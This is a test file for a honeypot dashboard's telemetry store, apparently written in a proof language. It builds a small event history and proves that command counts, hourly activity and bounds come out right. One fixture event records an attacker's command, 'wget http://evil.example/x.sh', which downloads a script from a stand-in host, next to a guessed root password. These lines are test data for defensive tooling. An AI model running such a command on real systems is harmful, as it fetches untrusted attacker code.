-- ===== src/Dashboard/Store/Tests.antt =====
-- The store on a small history, and the theorems at concrete inputs.
use aegis_honeypot.Prelude.{ℕ, ◌≡◌, refl, List, [], ◌∷◌, none, some, list_beq, list_eq}
use aegis_honeypot.Prelude.HashMap.{get, insert, remove, update}
use aegis_honeypot.Prelude.Text.{codes, split_whitespace}
use aegis_honeypot.Net.{IpAddr, v4, ip_beq}
use aegis_honeypot.Common.{
  TelemetryEvent, AuthMethod, session_start, credential_harvest, command_run,
}
use aegis_honeypot.Dashboard.Store.{
  Grid, insert_capped, bump_capped, empty, event_timestamp, event_ip, count_hour, bump_hour,
  bump_ip, bump_geo_point, evict, archive_session_start, ingest_kind, drop_oldest, push_recent,
  ingest, ingest_all, threat_score,
}
use aegis_honeypot.Dashboard.Store.Bounds.{IsBounded, ingest_all-empty-IsBounded}
use aegis_honeypot.Dashboard.Store.Totals.{AllExact, ingest_all-AllExact}

program : Unit {0}
unfolding get insert remove update split_whitespace ip_beq list_beq insert_capped bump_capped empty
    event_timestamp event_ip count_hour bump_hour bump_ip bump_geo_point evict archive_session_start
    ingest_kind drop_oldest push_recent ingest ingest_all threat_score
program = tt

-- Floating-point numbers stood for by numbers of degrees.
abbrev degrees : Grid ℕ
degrees = record { cell = λ x. x; corner = λ k. k }

abbrev host : IpAddr
host = v4 (record { o0 = 203; o1 = 0; o2 = 113; o3 = 5 })

abbrev started : TelemetryEvent ℕ
started =
    session_start
      (record { timestamp = 7200; session_id = codes "abc"; ip = host; port = 4444; geo = none })

abbrev guessed : TelemetryEvent ℕ
guessed = credential_harvest (record {
  timestamp = 7201;
  session_id = codes "abc";
  ip = host;
  username = codes "root";
  password = some (codes "123456");
  auth_method = AuthMethod.password;
})

abbrev ran : TelemetryEvent ℕ
ran = command_run (record {
  timestamp = 7300;
  session_id = codes "abc";
  ip = host;
  command = codes "wget http://evil.example/x.sh";
})

abbrev history : List (ℕ × TelemetryEvent ℕ)
history = (7200, started) ∷ (7201, guessed) ∷ (7300, ran) ∷ (7400, ran) ∷ []

two_commands : get (codes "wget") (ingest_all degrees empty history).command_counts ≡ some 2
unfolding program
two_commands = refl

one_hour : (ingest_all degrees empty history).hourly_activity ≡ (2, 4) ∷ []
unfolding program
one_hour = refl

ingest_all-empty-IsBounded_example : IsBounded (ingest_all degrees empty history)
ingest_all-empty-IsBounded_example = ingest_all-empty-IsBounded degrees history

ingest_all-AllExact_example : AllExact degrees history
ingest_all-AllExact_example = ingest_all-AllExact degrees history
